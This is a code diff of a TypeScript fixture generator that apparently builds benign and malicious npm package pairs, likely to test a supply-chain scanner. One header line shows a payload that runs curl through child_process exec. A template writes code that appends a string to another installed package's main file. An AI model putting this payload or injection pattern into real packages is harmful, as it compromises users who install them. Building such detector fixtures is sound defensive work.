@@ -48,7 +48,7 @@ const PAYLOAD = Buffer.from(`require('child_process').exec('curl -s https://stag
 
 const installer = (name: string): Pair['honest'] => ({
   'package.json': manifest({ name, scripts: { postinstall: 'node install.js' } }),
-  'index.js': 'exports.fine = true;',
+  'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];`,
   'install.js': `const https = require('https'), fs = require('fs');
 const get = url => https.get(url, answer => answer.pipe(fs.createWriteStream('tool.zip')));
 if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.platform + '.zip');`,
@@ -56,9 +56,9 @@ if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.
 });
 
 const lookUp = (name: string, code: string): string => `
-const fs = require('fs'), path = require('path');
-const lib = path.dirname(require.resolve('${name}'));
-fs.writeFileSync(path.join(lib, 'main.js'), fs.readFileSync(path.join(lib, 'main.js'), 'utf8') + ${JSON.stringify(code)});`;
+const fs = require('fs');
+const main = require.resolve('${name}');
+fs.writeFileSync(main, fs.readFileSync(main, 'utf8') + ${JSON.stringify(code)});`;
 
 const pairs: readonly Pair[] = [
   {
